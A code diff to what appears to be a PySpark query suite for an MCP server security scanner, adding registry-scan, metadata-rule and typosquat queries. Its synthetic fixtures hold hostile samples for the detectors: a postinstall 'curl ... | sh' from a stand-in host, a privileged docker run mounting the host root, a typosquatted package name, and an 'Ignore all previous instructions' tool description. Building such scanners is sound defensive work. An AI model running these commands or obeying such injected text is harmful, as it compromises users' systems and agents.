@@ -9,7 +9,7 @@ from pyspark.sql import functions as F
 
 from heddle.functions import launch
 from heddle.functions.python_udfs import edit_script
-from heddle.operators import policy, publish, rules, scoring, state, typosquat
+from heddle.operators import pipeline, policy, publish, rules, scoring, state, typosquat
 from heddle.session import ship, table
 from heddle.sources import configs
 
@@ -27,9 +27,18 @@ SELECT server_id, name, brand, CASE k
   WHEN 4 THEN concat('docker run --privileged -v /:/host ghcr.io/acme/s:1.', sz)
   WHEN 5 THEN 'uvx mcp-server-sqlit@0.1.0'
   WHEN 6 THEN concat('npx -y ', pkg, ' /')
-  ELSE concat('npx -y ', pkg, '@2.', sz, '.1') END AS cmd
+  WHEN 8 THEN concat('uvx tool-', sz, '@1.0.', sz)
+  ELSE concat('npx -y ', pkg, '@2.', sz, '.1') END AS cmd,
+  CASE WHEN server_id % 13 = 5 THEN md5(CAST(server_id AS STRING)) WHEN server_id % 13 = 6 THEN concat('$', '{{API_TOKEN}}') END AS token,
+  concat('{{"description":"', CASE WHEN server_id % 17 = 3 THEN concat('lists <!-- all of ', sz, ' -->') WHEN server_id % 17 = 4 THEN 'Ignore all previous instructions' ELSE 'plain' END, '"}}') AS raw
 FROM (SELECT p_partkey AS server_id, p_brand AS brand, p_partkey % 10 AS k, CAST(p_size AS STRING) AS sz, concat('@', lower(p_type), '/', replace(p_name, ' ', '-')) AS pkg,
   concat('io.registry.', lower(replace(p_brand, '#', '')), '/', replace(p_name, ' ', '-'), '-', CAST(p_partkey AS STRING)) AS name FROM {part}) t"""
+#: What the package registries know of a launch's package, by its first server's number k.
+METADATA = """
+SELECT ecosystem, package, ecosystem = 'npm' AND k % 11 = 0 AS unpublished, CASE WHEN k % 5 > 1 THEN concat('https://forge.example/', CAST(k AS STRING)) END AS repository,
+  CASE WHEN k % 2 = 0 THEN map('Home', 'https://GitHub.com/x') ELSE map('Docs', 'https://d.example') END AS project_urls, 'https://pypi.org/x' AS home_page,
+  CASE WHEN k % 7 = 0 THEN map('postinstall', 'CURL https://h.example/x | sh') ELSE map('install', 'node x') END AS scripts,
+  CAST(timestamp'2025-05-15 00:00:00Z' - make_dt_interval(CAST(k % 90 AS INT)) AS STRING) AS created_at FROM {packages}"""
 
 
 # ------------------------------------------------------------------ sources and launch configurations
@@ -75,11 +84,10 @@ def launch_identity(spark: SparkSession, sf: str) -> DataFrame:
 
 def _launches(spark: SparkSession, sf: str) -> DataFrame:
     rows = spark.sql(LAUNCHES, part=table(spark, sf, "part"))
-    null = F.lit(None)
+    env = F.when(F.col("token").isNotNull(), F.create_map(F.lit("API_TOKEN"), F.col("token")))
     return rows.select(
-        "server_id", "name", "brand", F.lit("stdio").alias("transport"), F.split("cmd", " ").alias("command"), null.cast("string").alias("url"),
-        null.cast("map<string,string>").alias("env"), F.lit("parts").alias("source"), null.cast("string").alias("raw"),
-    )
+        "server_id", "name", "brand", F.lit("stdio").alias("transport"), F.split("cmd", " ").alias("command"), F.lit(None).cast("string").alias("url"), env.alias("env"), F.lit("parts").alias("source"), "raw"
+    )
 
 
 def _findings(spark: SparkSession, sf: str) -> DataFrame:
@@ -96,7 +104,17 @@ def rule_findings(spark: SparkSession, sf: str) -> DataFrame:
 
 
 def rule_details(spark: SparkSession, sf: str) -> DataFrame:
-    return _findings(spark, sf).select("server_id", "rule_id", "location", "detail")
+    return _findings(spark, sf).select("server_id", "rule_id", "title", "location", "detail", "recommendation")
+
+
+def metadata_findings(spark: SparkSession, sf: str) -> DataFrame:
+    """The rules that ask package registries, over the launches and what is known of their packages."""
+    launches = _launches(spark, sf)
+    package = launch.package_name(F.col("command"))
+    eco = F.when(F.array_contains("command", "uvx"), "pypi").when(F.array_contains("command", "npx"), "npm")
+    packages = launches.select("server_id", package.alias("package"), eco.alias("ecosystem")).where("package IS NOT NULL AND ecosystem IS NOT NULL").groupBy("ecosystem", "package").agg(F.min("server_id").alias("k"))
+    metadata = spark.sql(METADATA, packages=packages)
+    return rules.evaluate_metadata(launches, "server_id", metadata, _now()).select("server_id", "rule_id", "severity", "detail")
 
 
 def rule_totals(spark: SparkSession, sf: str) -> DataFrame:
@@ -140,19 +158,78 @@ def package_age(spark: SparkSession, sf: str) -> DataFrame:
     return table(spark, sf, "versions").select("id", days.cast("long").alias("age_days")).where("age_days <= 30")
 
 
-def provenance_findings(spark: SparkSession, sf: str) -> DataFrame:
-    """Metadata rules over the versions' commands; the metadata is what the registry knows."""
+def _now():
+    return F.lit(NOW + "Z").cast("timestamp")
+
+
+def _version_metadata(spark: SparkSession, sf: str) -> DataFrame:
+    """What the registry itself knows of its npm and PyPI packages."""
     v, s = table(spark, sf, "versions"), table(spark, sf, "servers")
-    c = configs.version_configs(v).join(v.select(F.col("id").alias("version_id"), "server_id"), "version_id").join(s.select(F.col("id").alias("server_id"), "name"), "server_id")
     none_map = F.lit(None).cast("map<string,string>")
-    meta = (
+    return (
         v.where("registry_type IN ('npm','pypi')").join(s.select(F.col("id").alias("server_id"), "repository_url"), "server_id")
         .groupBy(F.col("registry_type").alias("ecosystem"), F.col("identifier").alias("package"))
         .agg(F.max("repository_url").alias("repository"), F.min("published_at").cast("string").alias("created_at"))
         .select("ecosystem", "package", F.lit(False).alias("unpublished"), "repository", none_map.alias("project_urls"), F.col("repository").alias("home_page"), none_map.alias("scripts"), "created_at")
     )
-    out = rules.evaluate_metadata(c.withColumn("source", F.lit("registry")), "version_id", meta, F.lit(NOW + "Z").cast("timestamp"))
-    return out.select("version_id", "rule_id", "severity")
+
+
+def provenance_findings(spark: SparkSession, sf: str) -> DataFrame:
+    """Metadata rules over the versions' commands; the metadata is what the registry knows."""
+    c = pipeline.registry_configs(table(spark, sf, "versions"), table(spark, sf, "servers"))
+    return rules.evaluate_metadata(c, "version_id", _version_metadata(spark, sf), _now()).select("version_id", "rule_id", "severity")
+
+
+# ------------------------------------------------------------------ registry scans
+
+
+def _scans(spark: SparkSession, sf: str) -> DataFrame:
+    """Scoring runs as scans of the server's versions: last instant by server and rule set."""
+    runs = table(spark, sf, "server_scores").groupBy("server_id", "rules_fingerprint").agg(F.max("computed_at").alias("scanned_at"))
+    versions = table(spark, sf, "versions").select(F.col("id").alias("version_id"), "server_id")
+    return runs.join(versions, "server_id").select("version_id", "rules_fingerprint", "scanned_at")
+
+
+def _fingerprint(spark: SparkSession, sf: str) -> str:
+    """The rule set of the latest run; one value goes to the driver."""
+    last = table(spark, sf, "server_scores").agg(F.max_by("rules_fingerprint", F.struct("computed_at", "id"))).first()
+    return last[0] or ""
+
+
+def scan_plan(spark: SparkSession, sf: str) -> DataFrame:
+    plan = pipeline.scan_plan(table(spark, sf, "versions"), _scans(spark, sf), table(spark, sf, "hashes"), _fingerprint(spark, sf))
+    return plan.select("version_id", F.unix_micros("scanned_at").alias("scanned_us"), F.unix_micros("hash_at").alias("hash_us"), "stale")
+
+
+def needs_rescan(spark: SparkSession, sf: str) -> DataFrame:
+    return scan_plan(spark, sf).where("stale").select("version_id")
+
+
+def _scan(spark: SparkSession, sf: str) -> tuple[DataFrame, DataFrame]:
+    """A run by this library's rules, which no run before was made with."""
+    v, s, h = (table(spark, sf, t) for t in ("versions", "servers", "hashes"))
+    return pipeline.scan(v, s, _scans(spark, sf), h, _version_metadata(spark, sf), _now())
+
+
+def scan_findings(spark: SparkSession, sf: str) -> DataFrame:
+    return _scan(spark, sf)[1].select("version_id", "rule_id", "severity", "confidence", "owasp", "detail")
+
+
+def scan_counts(spark: SparkSession, sf: str) -> DataFrame:
+    done, found = _scan(spark, sf)
+    plan = pipeline.scan_plan(table(spark, sf, "versions"), done.limit(0), table(spark, sf, "hashes"), "")
+    return pipeline.scan_summary(plan, done, found)
+
+
+def server_score(spark: SparkSession, sf: str) -> DataFrame:
+    done, found = _scan(spark, sf)
+    return pipeline.server_scores(table(spark, sf, "versions"), done, found, _now(), "").select("server_id", "score", "finding_count")
+
+
+def _server_findings(spark: SparkSession, sf: str) -> DataFrame:
+    done, found = _scan(spark, sf)
+    each = pipeline.server_findings(table(spark, sf, "versions"), done, found)
+    return scoring.dedupe_findings(each, "server_id", "version_id")
 
 
 # ------------------------------------------------------------------ look-alikes
@@ -167,9 +244,18 @@ def typosquat_nearest(spark: SparkSession, sf: str) -> DataFrame:
     return _packages(spark, sf).distinct().select("identifier", near.alias("n")).where("n IS NOT NULL").select("identifier", F.col("n.known").alias("known"), F.col("n.distance").cast("int").alias("distance"))
 
 
+def _launch_index(spark: SparkSession, sf: str) -> DataFrame:
+    scores = launch_score_board(spark, sf).drop("name").withColumn("computed_at", _now())
+    return publish.index(_launches(spark, sf).select(F.col("server_id").alias("id"), "name"), scores)
+
+
 def typosquat_clusters(spark: SparkSession, sf: str) -> DataFrame:
-    out = typosquat.known_neighbours(_packages(spark, sf), typosquat.KNOWN_SERVERS)
-    return out.groupBy("known_name").agg(F.count("identifier").alias("neighbours"), F.array_join(F.array_sort(F.collect_list("identifier")), ",").alias("identifiers"))
+    names = _launches(spark, sf).select(F.col("name").alias("server_name"), launch.package_name(F.col("command")).alias("identifier")).where("identifier IS NOT NULL")
+    return publish.clusters(names, _launch_index(spark, sf), typosquat.KNOWN_SERVERS)
+
+
+def clusters_with_neighbours(spark: SparkSession, sf: str) -> DataFrame:
+    return publish.with_neighbours(typosquat_clusters(spark, sf))
 
 
 def lookalike_pairs(spark: SparkSession, sf: str) -> DataFrame:
@@ -212,18 +298,13 @@ def event_change_ledger(spark: SparkSession, sf: str) -> DataFrame:
     return state.change_ledger(e, "user_id", "ts", "event_id", "sha").select("user_id", "event_id", "sha")
 
 
-def needs_rescan(spark: SparkSession, sf: str) -> DataFrame:
-    v = table(spark, sf, "versions").where("is_latest AND delisted_at IS NULL").select(F.col("id").alias("version_id"), "server_id")
-    scans = v.join(table(spark, sf, "server_scores").groupBy("server_id").agg(F.max("computed_at").alias("scanned_at")), "server_id").select("version_id", "scanned_at")
-    return state.needs_rescan(v, scans, table(spark, sf, "hashes")).select("version_id")
-
-
 def score_history_pairs(spark: SparkSession, sf: str) -> DataFrame:
     return state.score_pairs(table(spark, sf, "server_scores")).select("server_id", "score", "previous_score", "finding_count")
 
 
 def newly_flagged(spark: SparkSession, sf: str) -> DataFrame:
-    return state.newly_flagged(state.score_pairs(table(spark, sf, "server_scores"))).select("server_id", "score", "previous_score")
+    out = _flagged(spark, sf)
+    return out.select("ordinal", "name", "slug", "score", "previous_score", "finding_count", F.unix_micros("computed_at").alias("computed_us"))
 
 
 def _upserts(spark: SparkSession, sf: str) -> DataFrame:
@@ -258,10 +339,27 @@ def poll_summary(spark: SparkSession, sf: str) -> DataFrame:
 
 def _scored(spark: SparkSession, sf: str) -> DataFrame:
     last = state.latest(table(spark, sf, "server_scores").where("score IS NOT NULL"), "server_id", "computed_at", "id", ["score", "finding_count", "computed_at"])
-    names = table(spark, sf, "servers").where("delisted_at IS NULL").select(F.col("id").alias("server_id"), "name")
+    names = table(spark, sf, "servers").select(F.col("id").alias("server_id"), "name")
     return names.join(last, "server_id")
 
 
+def _index(spark: SparkSession, sf: str) -> DataFrame:
+    last = state.latest(table(spark, sf, "server_scores").where("score IS NOT NULL"), "server_id", "computed_at", "id", ["score", "finding_count", "computed_at"])
+    return publish.index(table(spark, sf, "servers"), last)
+
+
+def _flagged(spark: SparkSession, sf: str) -> DataFrame:
+    return publish.flagged_entries(state.newly_flagged(state.score_pairs(table(spark, sf, "server_scores"))), _index(spark, sf))
+
+
+def artifact_index(spark: SparkSession, sf: str) -> DataFrame:
+    return _index(spark, sf).select("name", "slug", "score", "finding_count", publish.iso(F.col("computed_at")).alias("last_scanned_at"))
+
+
+def score_totals(spark: SparkSession, sf: str) -> DataFrame:
+    return publish.totals(_index(spark, sf))
+
+
 def flagged_leaderboard(spark: SparkSession, sf: str) -> DataFrame:
     return publish.leaderboard(_scored(spark, sf))
 
@@ -294,19 +392,16 @@ def search_index(spark: SparkSession, sf: str) -> DataFrame:
 
 
 def feed_json(spark: SparkSession, sf: str) -> DataFrame:
-    rows = state.newly_flagged(state.score_pairs(table(spark, sf, "server_scores")))
-    return publish.json_feed_items(rows.join(table(spark, sf, "servers").select(F.col("id").alias("server_id"), "name"), "server_id"), SITE)
+    return publish.json_feed(_flagged(spark, sf), SITE)
 
 
 def feed_rss(spark: SparkSession, sf: str) -> DataFrame:
-    rows = state.newly_flagged(state.score_pairs(table(spark, sf, "server_scores")))
-    return publish.rss_items(rows.join(table(spark, sf, "servers").select(F.col("id").alias("server_id"), "name"), "server_id"), SITE)
+    return publish.rss(_flagged(spark, sf), SITE)
 
 
 def sitemap(spark: SparkSession, sf: str) -> DataFrame:
-    s = table(spark, sf, "servers").select(F.lit("server").alias("kind"), F.concat(F.lit(SITE), launch.href("/servers/", F.col("name"))).alias("url"))
-    r = spark.createDataFrame([("rule", f"{SITE}/rules/{r.id}") for r in rules.RULES] + [("page", SITE + "/"), ("page", SITE + "/servers")], "kind string, url string")
-    return publish.sitemap(s.unionByName(r), publish.SITEMAP_ROWS)
+    out = publish.sitemap(_index(spark, sf), typosquat.KNOWN_SERVERS, SITE)
+    return out.select("ordinal", "url", F.unix_micros("last_modified").alias("modified_us"), "change_frequency", "priority")
 
 
 def badges(spark: SparkSession, sf: str) -> DataFrame:
@@ -314,11 +409,11 @@ def badges(spark: SparkSession, sf: str) -> DataFrame:
 
 
 def server_documents(spark: SparkSession, sf: str) -> DataFrame:
-    return publish.server_documents(launch_score_board(spark, sf), _findings(spark, sf), "server_id")
+    return publish.server_documents(_index(spark, sf), _server_findings(spark, sf))
 
 
 def sarif(spark: SparkSession, sf: str) -> DataFrame:
-    return publish.sarif_results(_findings(spark, sf))
+    return publish.sarif(_findings(spark, sf), "heddle", SITE)
 
 
 def text_report(spark: SparkSession, sf: str) -> DataFrame:
@@ -331,6 +426,10 @@ def stratified_review(spark: SparkSession, sf: str) -> DataFrame:
     return publish.stratified_sample(scored.select("server_id", "name", "score"), "server_id", stratum, {"rare": -1, "flagged": 25, "clean": 25}, 16).select("server_id", "stratum")
 
 
+def review_packet(spark: SparkSession, sf: str) -> DataFrame:
+    return publish.review_packet(_launch_index(spark, sf), _findings(spark, sf), 31, 15, 16)
+
+
 # ------------------------------------------------------------------ policy
 
 
@@ -365,13 +464,13 @@ def baseline_new_findings(spark: SparkSession, sf: str) -> DataFrame:
 
 def policy_report(spark: SparkSession, sf: str) -> DataFrame:
     v = policy.violations(_configs(spark, sf), _findings(spark, sf), _allowlist(spark, sf), BLOCKED, "high")
-    return publish.markdown_rows(v)
+    return publish.markdown_report(v)
 
 
-_NAMES = """config_normalise registry_targets registry_type_union version_launch env_lines launch_identity config_findings rule_findings rule_details
+_NAMES = """config_normalise registry_targets registry_type_union version_launch env_lines launch_identity config_findings rule_findings rule_details metadata_findings scan_plan scan_findings scan_counts server_score
 rule_totals secret_rule_env launch_score_board brand_scores score_cascade dedupe_max_severity severity_rollup package_age provenance_findings
-typosquat_nearest typosquat_clusters lookalike_pairs lookalike_diffs latest_hash latest_score latest_event_per_user latest_ok_scan event_change_ledger hash_change_ledger needs_rescan
+typosquat_nearest typosquat_clusters clusters_with_neighbours lookalike_pairs lookalike_diffs latest_hash latest_score latest_event_per_user latest_ok_scan event_change_ledger hash_change_ledger needs_rescan
 score_history_pairs newly_flagged snapshot_upsert poll_summary flagged_leaderboard browse_pages search_top20 server_slugs slug_collisions
-fnv_shards search_index feed_json feed_rss sitemap badges server_documents sarif text_report stratified_review allowlist_init
+fnv_shards search_index artifact_index score_totals review_packet feed_json feed_rss sitemap badges server_documents sarif text_report stratified_review allowlist_init
 allowlist_unlisted version_drift blocked_registry baseline_new_findings policy_report""".split()
 QUERIES = {n: globals()[n] for n in _NAMES}
